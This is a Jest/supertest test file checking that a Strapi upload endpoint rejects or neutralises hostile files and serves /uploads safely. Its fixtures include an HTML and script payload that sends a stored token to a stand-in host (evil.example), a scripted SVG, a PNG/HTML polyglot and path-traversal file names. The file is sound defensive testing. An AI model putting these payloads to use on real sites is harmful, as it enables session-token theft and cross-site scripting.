/**
 * Uploads cannot plant active content: the type comes from the bytes, the stored name gets the
 * extension of those bytes, bad names are a 400, and whatever lies under /uploads is served so that
 * nothing there can run — not even a page or script put on disk by other means.
 */
import fs from 'fs';
import path from 'path';
import request from 'supertest';
import { api, login } from '../helpers/session';
import { startStrapi, type TestApp } from '../helpers/strapi';

let app: TestApp;
let member: ReturnType<typeof api>;
const b64 = (s: string) => Buffer.from(s, 'base64');

// Tiny valid 1×1 images, as sharp writes them.
const PNG = b64(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAACXBIWXMAAAPoAAAD6AG1e1JrAAAADElEQVQImWM4w8AAAAJoAM1w/7HYAAAAAElFTkSuQmCC',
);
const JPEG = b64(
  '/9j/2wBDAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODwwQFxQYGBcUFhYaHSUfGhsjHBYWICwgIyYnKSopGR8tMC0oMCUoKSj/2wBDAQcHBwoIChMKChMoGhYaKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCj/wAARCAABAAEDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAf/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFQEBAQAAAAAAAAAAAAAAAAAABgf/xAAUEQEAAAAAAAAAAAAAAAAAAAAA/9oADAMBAAIRAxEAPwCTADC6v//Z',
);
const WEBP = b64(
  'UklGRjwAAABXRUJQVlA4IDAAAADQAQCdASoBAAEAAUAmJaACdLoB+AADsAD+91kv/kFpXLeAP/4yp8ZU+Mqf8XMAAAA=',
);
const GIF = b64('R0lGODlhAQABAIAAAExpccwAACH5BAUAAAAALAAAAAABAAEAAAICTAEAOw==');

const PAGE = Buffer.from(
  '<!doctype html><script>fetch("https://evil.example/?t="+localStorage.getItem("token"))</script>',
);
const SCRIPT = Buffer.from('fetch("https://evil.example/?t="+localStorage.getItem("token"))');
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(localStorage.token)</script></svg>',
);
const PNG_HEAD = PNG.subarray(0, 16);

/** The multipart body as an attacker writes it (a client library would clean the file name). */
function upload(content: Buffer, filename: string, contentType: string) {
  const boundary = `yz${Math.random().toString(16).slice(2)}`;
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${contentType}\r\n\r\n`;
  return member
    .post('/api/panel/upload')
    .set('Content-Type', `multipart/form-data; boundary=${boundary}`)
    .send(Buffer.concat([Buffer.from(head), content, Buffer.from(`\r\n--${boundary}--\r\n`)]));
}

beforeAll(async () => {
  app = await startStrapi();
  member = api(app, await login(app, 'member'));
});
afterAll(() => app.stop());

const NOT_IMAGE = '但内容不是 JPG、PNG、WebP 或 GIF 图片';
const BAD_NAME = '文件名不能包含';
const BROKEN = '图片已损坏，无法读取';
const HOSTILE: [string, Buffer, string, string, number, string][] = [
  ['an HTML page declared image/png', PAGE, 'page.html', 'image/png', 400, NOT_IMAGE],
  ['an HTML page named .png', PAGE, 'page.png', 'image/png', 400, NOT_IMAGE],
  ['a script declared image/jpeg', SCRIPT, 'x.js', 'image/jpeg', 400, NOT_IMAGE],
  ['an SVG with a script', SVG, 'logo.svg', 'image/svg+xml', 400, '收到的是 image/svg+xml'],
  ['an SVG declared image/png', SVG, 'logo.png', 'image/png', 400, NOT_IMAGE],
  ['an HTML page declared text/html', PAGE, 'page.html', 'text/html', 400, '收到的是 text/html'],
  ['a PNG header followed by a page', Buffer.concat([PNG_HEAD, PAGE]), 'page.png', 'image/png', 400, BROKEN],
  [
    'a GIF header followed by a script',
    Buffer.concat([Buffer.from('GIF89a'), SCRIPT]),
    'x.gif',
    'image/gif',
    400,
    BROKEN,
  ],
  ['a NUL in the name', PNG, 'dot&#0000;.html.png', 'image/png', 400, BAD_NAME],
  ['a ../ in the name', PNG, '../../cms/config/x.png', 'image/png', 400, BAD_NAME],
  ['a / in the name', PNG, 'a/b.png', 'image/png', 400, BAD_NAME],
  ['a name that is ..', PNG, '..', 'image/png', 400, BAD_NAME],
  ['a control character in the name', PNG, 'a\u0007b.png', 'image/png', 400, BAD_NAME],
  ['an empty file', Buffer.alloc(0), 'empty.png', 'image/png', 400, '文件是空的'],
  [
    'a file over 5 MB',
    Buffer.concat([PNG, Buffer.alloc(5 * 1024 * 1024)]),
    'big.png',
    'image/png',
    413,
    '图片不能超过 5 MB',
  ],
];

describe('hostile uploads', () => {
  it.each(HOSTILE)('refuses %s', async (_what, content, filename, contentType, status, message) => {
    const res = await upload(content, filename, contentType);
    expect([res.status, res.body.message]).toEqual([status, expect.stringContaining(message)]);
  });

  it('keeps only the last part of a name with backslashes (the parser drops the rest)', async () => {
    const res = await upload(PNG, '..\\..\\b.png', 'image/png');
    expect([res.status, res.body.name]).toEqual([201, 'b.png']);
  });

  it("refuses the same page through Strapi's own upload route, which no role may use", async () => {
    const res = await member
      .post('/api/upload')
      .attach('files', PAGE, { filename: 'page.html', contentType: 'image/png' });
    expect(res.status).toBe(403);
  });

  it('says why in Chinese, and in English when asked', async () => {
    const zh = await upload(PAGE, 'page.html', 'image/png');
    expect(zh.body.message).toBe('文件声明为 image/png，但内容不是 JPG、PNG、WebP 或 GIF 图片');
    const en = await upload(PAGE, 'page.html', 'image/png').set('Accept-Language', 'en');
    expect(en.body.message).toBe('The file was declared image/png but is not a JPG, PNG, WebP or GIF image');
    const name = await upload(PNG, '../x.png', 'image/png');
    expect(name.body.message).toContain('文件名不能包含');
  });

  it('stores a PNG with a page appended and an .html name as a PNG, served as an image', async () => {
    const polyglot = Buffer.concat([PNG, PAGE]);
    const res = await upload(polyglot, 'page.html', 'text/html');
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ mime: 'image/png', name: 'page.png' });
    expect(res.body.url).toMatch(/^\/uploads\/page_[0-9a-f]+\.png$/);
    const served = await request(app.url).get(res.body.url);
    expect(served.status).toBe(200);
    expect(served.headers).toMatchObject({
      'content-type': 'image/png',
      'x-content-type-options': 'nosniff',
      'content-disposition': 'inline',
    });
    expect(served.headers['content-security-policy']).toMatch(/default-src 'none'.*sandbox/);
  });
});

describe('real images', () => {
  it.each([
    ['PNG', PNG, 'dot.png', 'image/png', 'image/png', /\/dot_\w+\.png$/],
    ['JPEG', JPEG, 'photo.jpeg', 'image/jpeg', 'image/jpeg', /\/photo_\w+\.jpg$/],
    ['WebP', WEBP, 'dot.webp', 'image/webp', 'image/webp', /\/dot_\w+\.webp$/],
    ['GIF', GIF, 'dot.gif', 'image/gif', 'image/gif', /\/dot_\w+\.gif$/],
    [
      'JPEG named .png, declared octet-stream',
      JPEG,
      'photo.png',
      'application/octet-stream',
      'image/jpeg',
      /\.jpg$/,
    ],
  ])(
    'uploads a %s and serves it inline as an image',
    async (_what, content, filename, declared, mime, ext) => {
      const res = await upload(content, filename, declared);
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({ mime, width: 1, height: 1 });
      expect(res.body.url).toMatch(ext);
      const served = await request(app.url).get(res.body.url);
      expect(served.status).toBe(200);
      expect(served.headers['content-type']).toBe(res.body.mime);
      expect(served.headers['x-content-type-options']).toBe('nosniff');
      expect(served.headers['content-disposition']).toBe('inline');
    },
  );
});

describe('serving /uploads', () => {
  const planted = ['planted.html', 'planted.js', 'planted.svg', 'planted.htm', 'planted.xml', 'planted'];
  const dir = () => path.join(app.strapi.dirs.static.public, 'uploads');

  beforeAll(() => {
    for (const name of planted) fs.writeFileSync(path.join(dir(), `${process.pid}-${name}`), PAGE);
  });
  afterAll(() => {
    for (const name of planted) fs.rmSync(path.join(dir(), `${process.pid}-${name}`), { force: true });
  });

  it.each(planted)('serves %s already on disk as a download that cannot run', async (name) => {
    const res = await request(app.url).get(`/uploads/${process.pid}-${name}`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/octet-stream');
    expect(res.headers['content-disposition']).toMatch(/^attachment/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-security-policy']).toMatch(/default-src 'none'.*sandbox/);
  });
});
